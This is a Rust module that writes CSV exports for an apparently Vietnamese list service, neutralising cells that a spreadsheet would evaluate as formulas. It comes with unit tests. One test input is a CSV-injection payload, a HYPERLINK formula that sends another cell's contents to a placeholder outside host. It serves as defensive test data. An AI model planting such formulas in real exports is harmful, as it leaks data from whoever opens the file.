//! The one writer of every CSV the service hands out (mail merges, SMS lists, list
//! reports): UTF-8 with a BOM so Excel shows diacritics, and cells typed as text or number.
//! Text comes from agencies' lists as it was typed, so a text cell that a spreadsheet would
//! read as a formula (`=HYPERLINK(…)` sending other cells to an outside address) is written
//! with a leading apostrophe; numbers, negative ones included, are written as numbers.

use std::borrow::Cow;

/// A cell: text (neutralised when it could start a formula) or a number (written as is).
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    Text(&'a str),
    Integer(i64),
    Decimal(f64),
}

/// First characters that make a spreadsheet read a cell as a formula (or, for tab and
/// carriage return, that it skips to reach one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet will show it and never evaluate it.
pub fn neutralised(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

impl Cell<'_> {
    fn written(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => neutralised(text),
            Cell::Integer(n) => Cow::Owned(n.to_string()),
            Cell::Decimal(x) if x.is_finite() => Cow::Owned(x.to_string()),
            Cell::Decimal(_) => Cow::Borrowed(""),
        }
    }
}

/// A CSV being written into memory; a long one can be handed out a part at a time.
pub struct CsvWriter(csv::Writer<Vec<u8>>);

impl CsvWriter {
    /// A new file, starting with the BOM.
    pub fn new() -> Self {
        Self(csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec()))
    }

    /// More rows of a file whose start was already handed out.
    pub fn continued() -> Self {
        Self(csv::Writer::from_writer(Vec::new()))
    }

    pub fn row(&mut self, cells: &[Cell]) {
        let written: Vec<Cow<str>> = cells.iter().map(Cell::written).collect();
        self.0.write_record(written.iter().map(|cell| cell.as_bytes())).expect("writing to memory");
    }

    /// A row of headings.
    pub fn header(&mut self, titles: &[&str]) {
        self.row(&titles.iter().map(|t| Cell::Text(t)).collect::<Vec<_>>());
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.0.into_inner().expect("writing to memory")
    }
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[Cell]) -> String {
        let mut csv = CsvWriter::continued();
        csv.row(cells);
        String::from_utf8(csv.into_bytes()).unwrap()
    }

    #[test]
    fn text_that_would_start_a_formula_is_neutralised() {
        let cells = [
            Cell::Text("=HYPERLINK(\"http://x/?leak=\"&C2,\"x\")"),
            Cell::Text("+84 Thôn Đông"),
            Cell::Text("-Xóm Chợ"),
            Cell::Text("@SUM(A1)"),
            Cell::Text("\t=1+1"),
            Cell::Text("\r=1+1"),
        ];
        assert_eq!(
            written(&cells),
            "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&C2,\"\"x\"\")\",'+84 Thôn Đông,'-Xóm Chợ,'@SUM(A1),'\t=1+1,\"'\r=1+1\"\n"
        );
    }

    #[test]
    fn ordinary_text_is_written_as_it_is() {
        assert_eq!(
            written(&[Cell::Text("Nguyễn Văn An"), Cell::Text("0912345678"), Cell::Text("")]),
            "Nguyễn Văn An,0912345678,\n"
        );
        assert_eq!(written(&[Cell::Text("Số 5, đường Lý Thái Tổ")]), "\"Số 5, đường Lý Thái Tổ\"\n");
    }

    #[test]
    fn numbers_stay_numbers_negative_ones_included() {
        assert_eq!(
            written(&[
                Cell::Integer(-12),
                Cell::Integer(7),
                Cell::Decimal(-0.5),
                Cell::Decimal(2.25),
                Cell::Decimal(f64::NAN)
            ]),
            "-12,7,-0.5,2.25,\n"
        );
    }

    #[test]
    fn a_new_file_starts_with_the_bom_and_a_continued_one_does_not() {
        let mut first = CsvWriter::new();
        first.header(&["Dòng", "Lý do"]);
        assert_eq!(first.into_bytes(), "\u{feff}Dòng,Lý do\n".as_bytes());
        let mut more = CsvWriter::continued();
        more.row(&[Cell::Integer(2), Cell::Text("-")]);
        assert_eq!(more.into_bytes(), b"2,'-\n");
    }
}
